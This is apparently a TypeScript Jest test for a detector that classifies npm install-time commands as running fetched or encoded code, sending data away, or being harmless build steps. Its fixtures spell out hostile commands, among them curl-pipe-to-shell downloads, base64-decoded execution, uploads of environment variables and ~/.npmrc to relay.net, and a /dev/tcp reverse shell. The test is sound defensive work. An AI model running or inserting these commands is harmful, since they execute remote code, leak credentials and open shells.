import { describe, expect, it } from '@jest/globals';
import { conductOf } from './command-conduct.js';

const NONE = new Set<string>();

describe('a command at installation that', () => {
  it.each([
    ['runs what it fetches', 'curl -fsSL https://get.relay.net/setup.sh | sh'],
    ['runs what it fetches', 'wget -qO- http://relay.net/x | sudo bash'],
    ['runs what it fetches', 'bash <(curl -s https://relay.net/x)'],
    ['runs what it fetches', 'sh -c "$(curl -fsSL https://relay.net/x)"'],
    ['runs what it fetches', 'curl -o /tmp/a https://relay.net/a && chmod +x /tmp/a && /tmp/a'],
    ['runs what it fetches', 'powershell -c "iex (iwr https://relay.net/x.ps1)"'],
    ['runs hidden code', 'echo aGk= | base64 -d | sh'],
    ['runs hidden code', 'powershell -EncodedCommand SQBFAFgA '],
    ['runs hidden code', `node -e "require('https').get('https://relay.net/x')"`],
    ['runs hidden code', `node -e "eval(Buffer.from('aGk=','base64').toString())"`],
    [
      'runs hidden code',
      `python -c "import urllib.request as u;exec(u.urlopen('https://relay.net').read())"`,
    ],
    ['sends data away', 'curl -d "$(env)" https://relay.net/in'],
    ['sends data away', 'cat ~/.npmrc | curl -T - https://relay.net'],
    ['sends data away', 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1'],
    ['fetches', 'curl -O https://relay.net/model.bin'],
    ['runs a foreign package', 'npx -y @relay/setup@latest'],
  ])('%s: %s', (kind, command) => {
    expect(conductOf(command, NONE)?.kind).toBe(kind);
  });

  it.each([
    'node scripts/build.js',
    'node-gyp rebuild',
    'husky',
    'husky install || true',
    'patch-package',
    'npm run build',
    'tsc -p .',
    'npx only-allow pnpm',
    'npx playwright install chromium',
    'prisma generate',
    `node -e "console.log('Thank you')"`,
    `node -e "try{require('./postinstall')}catch(e){}"`,
    'echo "See https://vendor.com/docs"',
    'git config core.hooksPath .githooks',
    'python setup.py build_ext --inplace',
  ])('only builds: %s', (command) => {
    expect(conductOf(command, NONE)).toBeUndefined();
  });

  it('runs a dependency of the package', () => {
    expect(conductOf('npx own-tool', new Set(['own-tool']))).toBeUndefined();
  });
});
